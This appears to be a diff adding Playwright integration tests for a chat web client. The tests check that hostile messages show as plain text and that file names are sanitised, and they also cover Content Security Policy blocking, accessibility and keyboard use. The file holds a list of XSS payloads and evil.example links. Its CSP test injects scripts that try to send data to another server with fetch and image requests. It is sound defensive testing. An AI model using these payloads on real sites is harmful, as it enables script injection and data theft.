@@ -1,0 +1,234 @@
+"""What strangers write does nothing in the page; and nobody is kept from using it."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+import pytest_asyncio
+from playwright.async_api import Browser, Page, expect
+
+from chatcore import ChatServer, Listen, connect
+from chatcore.text.safe_text import safe_text
+from chatcore_files import DownloadFolder
+from tests.integration.chromium import started
+from tests.integration.web_house import address, everything, joins, says, sees, web_options, web_server
+
+AXE = Path(__file__).parents[2] / ".venv" / "web" / "node_modules" / "axe-core" / "axe.min.js"
+HOSTILE = [
+    "<img src=x onerror=\"document.title='owned'\">",
+    "<script>document.title='owned'</script>",
+    "javascript:alert(1) data:text/html,<script>alert(1)</script>",
+    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
+    "https://user@evil.example/ http://evil.example/?q=\"onclick='x'",
+    "\u202egnp.exe \x1b]0;owned\x07 \x00 {{constructor.constructor('alert(1)')()}}",
+    "```\n<b>code</b>\n```",
+    "a" * 20_000,
+    "z" + "\u0301" * 500,
+]
+# One Chromium for all of them, so one event loop.
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+
+@pytest_asyncio.fixture(loop_scope="module", scope="module")
+async def browser() -> AsyncIterator[Browser]:
+    """Start Chromium."""
+    async with started() as browser:
+        yield browser
+
+
+class Watched:
+    """What a page asked for, and what went wrong in it."""
+
+    def __init__(self, page: Page) -> None:
+        self.asked: list[str] = []
+        self.blocked: list[str] = []
+        self.problems: list[str] = []
+        page.on("request", lambda request: self.asked.append(request.url))
+        page.on("console", lambda message: self.blocked.append(message.text))
+        page.on("pageerror", lambda error: self.problems.append(str(error)))
+        page.on("dialog", lambda dialog: self.problems.append(dialog.message))
+
+
+async def test_what_others_write_is_text(browser: Browser) -> None:
+    """Nothing of it is run, fetched or taken for markup, and no link leads anywhere but to a page."""
+    page = await browser.new_page()
+    watched = Watched(page)
+    async with web_server() as server, connect(server.urls[0], username="__proto__") as mallory:
+        await mallory.create("constructor")
+        await joins(page, address(server), "alice")
+        await says(page, "/join constructor")
+        await expect(page.get_by_role("heading", level=1)).to_have_text("# constructor")
+        for text in HOSTILE:
+            await mallory.send(text)
+            await mallory.send_direct(["alice"], text)
+        await mallory.send(HOSTILE[4])
+        await mallory.send("the end")
+        await sees(page, "the end")
+        shown = await everything(page)
+        assert any(HOSTILE[0] in text for text in shown)
+        assert any(safe_text(HOSTILE[5]) in text for text in shown)
+        assert await page.locator(".scroller img, .scroller script, .scroller b").count() == 0
+        links = await page.locator(".scroller a").evaluate_all("(all) => all.map((a) => [a.href, a.rel, a.target])")
+        assert links == [["http://evil.example/?q=", "noopener noreferrer", "_blank"]]
+        assert "owned" not in await page.title()
+        assert {url.split("/")[2] for url in watched.asked} == {address(server).split("/")[2]}
+        await page.locator(".place-name", has_text="__proto__").click()
+        await expect(page.get_by_role("heading", level=1)).to_have_text("__proto__")
+        assert any(HOSTILE[1] in text for text in await everything(page))
+    assert watched.problems == []
+    await page.close()
+
+
+async def test_the_name_of_a_file_is_text_too(browser: Browser, tmp_path: Path) -> None:
+    """It is shown as it is, and kept under a plain one."""
+    page = await browser.new_page()
+    watched = Watched(page)
+    source = tmp_path / "<img src=x onerror=alert(1)>\u202egnp.exe"
+    source.write_bytes(b"x")
+    folder = DownloadFolder(tmp_path / "in")
+    async with web_server() as server, connect(server.urls[0], username="bob", files=folder) as bob:
+        await joins(page, address(server), "alice")
+        await bob.offer_file(source, to=["alice"])
+        await page.locator(".place-name", has_text="bob").click()
+        await expect(page.locator(".file-name")).to_have_text("<img src=x onerror=alert(1)>\\u202egnp.exe")
+        await page.get_by_role("button", name="Receive").click()
+        await expect(page.get_by_role("link", name="Save")).to_have_attribute(
+            "download", "_img src=x onerror=alert(1)__gnp.exe"
+        )
+    assert watched.problems == []
+    await page.close()
+
+
+async def test_the_policy_blocks_a_script_that_somebody_got_into_the_page(browser: Browser) -> None:
+    """Inline, by an attribute, from another place, by eval, by markup; and requests to elsewhere."""
+    page = await browser.new_page()
+    watched = Watched(page)
+    async with web_server() as server, web_server() as other:
+        await joins(page, address(server), "alice")
+        await page.evaluate(
+            """(elsewhere) => {
+                const add = (tag, more) => {
+                    const it = document.createElement(tag);
+                    for (const [name, value] of Object.entries(more)) it.setAttribute(name, value);
+                    document.body.append(it);
+                    return it;
+                };
+                const tries = [
+                    () => { add("script", {}).textContent = "owned = 1"; },
+                    () => add("script", { src: elsewhere + "/app.js" }),
+                    () => add("img", { src: "x", onerror: "owned = 2" }),
+                    () => { document.body.innerHTML += "<img src=x onerror='owned = 3'>"; },
+                    () => setTimeout("owned = 4"),
+                    () => add("iframe", { src: elsewhere }),
+                    () => add("a", { href: "javascript:owned = 5" }).click(),
+                    () => fetch(elsewhere + "/?stolen"),
+                    () => new WebSocket(elsewhere.replace("http", "ws")),
+                    () => add("img", { src: elsewhere + "/?stolen" }),
+                ];
+                for (const each of tries) try { each(); } catch {}
+            }""",
+            address(other),
+        )
+        await asyncio.sleep(0)
+        await says(page, "still here")
+        await sees(page, "still here")
+        assert await page.evaluate("typeof owned") == "undefined"
+        assert not other.chat.users
+        assert sum("Content Security Policy" in text or "TrustedScript" in text for text in watched.blocked) >= 7
+    await page.close()
+
+
+async def test_nobody_is_kept_out_by_how_the_page_is_made(browser: Browser) -> None:
+    """axe-core finds nothing: contrast, names, roles, order; in both colours, wide and narrow."""
+    if not AXE.exists():
+        advice = "axe-core is missing: scripts/web-types fetch"
+        pytest.fail(advice) if os.environ.get("CI") else pytest.skip(advice)
+    source = AXE.read_text()
+    found: list[str] = []
+    for colours, size in (("light", (1440, 900)), ("dark", (390, 844))):
+        context = await browser.new_context(
+            bypass_csp=True, color_scheme=colours, viewport={"width": size[0], "height": size[1]}
+        )
+        page = await context.new_page()
+
+        async def look(where: str, page: Page = page, colours: str = colours) -> None:
+            await page.evaluate(source + "; 0")
+            result = await page.evaluate("axe.run(document, { resultTypes: ['violations'] })")
+            found.extend(
+                f"{where}, {colours}: {one['id']}: {[node['html'] for node in one['nodes']]}"
+                for one in result["violations"]
+            )
+
+        async with web_server() as server, connect(server.urls[0], username="bob") as bob:
+            await page.goto(address(server))
+            await look("joining")
+            await joins(page, address(server), "alice")
+            await bob.send("hello alice, `code` and https://example.org\n```\nblock\n```")
+            await bob.send_direct(["alice"], "psst")
+            await says(page, "an answer")
+            await says(page, "/nothing")
+            await sees(page, "hello alice")
+            await look("talking")
+            await page.get_by_role("textbox").last.fill("/")
+            await expect(page.get_by_role("option")).to_have_count(8)
+            await look("commands")
+            await page.keyboard.press("Escape")
+            if size[0] < 700:
+                await page.get_by_role("button", name="Rooms and messages").click()
+            await look("rooms")
+            await page.get_by_role("button", name="Settings").click()
+            await expect(page.get_by_role("dialog")).to_be_visible()
+            await look("settings")
+        await context.close()
+    assert found == []
+
+
+async def test_everything_can_be_done_by_keyboard(browser: Browser) -> None:
+    """Tab reaches what there is; the arrows choose a completion, Tab takes it; Escape closes."""
+    page = await browser.new_page()
+    async with web_server() as server, connect(server.urls[0], username="bob") as bob:
+        await page.goto(address(server))
+        await page.keyboard.type("alice")
+        await page.keyboard.press("Enter")
+        await expect(page.locator(".my-name")).to_have_text("alice")
+        await expect(page.get_by_role("textbox").last).to_be_focused()
+        await page.keyboard.type("/wh")
+        await page.keyboard.press("ArrowDown")
+        await page.keyboard.press("Tab")
+        await page.keyboard.type("b")
+        await page.keyboard.press("Tab")
+        await expect(page.get_by_role("textbox").last).to_have_value("/whois bob")
+        await page.keyboard.press("Enter")
+        await expect(page.locator(".notice").last).to_contain_text("bob is in lobby")
+        await page.keyboard.type("hello @b")
+        await page.keyboard.press("Tab")
+        await page.keyboard.press("Enter")
+        await sees(page, "hello bob")
+        assert bob.username == "bob"
+        reached = set()
+        for _ in range(30):
+            await page.keyboard.press("Tab")
+            reached.add(await page.evaluate("document.activeElement.ariaLabel ?? document.activeElement.textContent"))
+        assert {"Create a room", "Settings", "Offer a file", "Who is here", "Message"} <= reached
+    await page.close()
+
+
+async def test_a_page_is_connected_by_webtransport_where_the_server_has_it(browser: Browser, tmp_path: Path) -> None:
+    """And says so; files go there too. Where it does not work it is a WebSocket, and says why."""
+    page = await browser.new_page()
+    options = web_options(state_dir=str(tmp_path / "state"), handshake_timeout=30.0)
+    async with ChatServer(listen=[Listen("ws", options=options), Listen("quic", options=options)]) as server:
+        url = address(server)
+        await joins(page, url, "alice")
+        await expect(page.locator(".over")).to_have_text("WebTransport, encrypted")
+        async with connect(server.urls[0], username="bob") as bob:
+            assert (await bob.whois("alice")).transport == "quic"
+            await says(page, "over QUIC")
+            await sees(page, "over QUIC")
+            await bob.send("back")
+            await sees(page, "back")
+    await page.close()
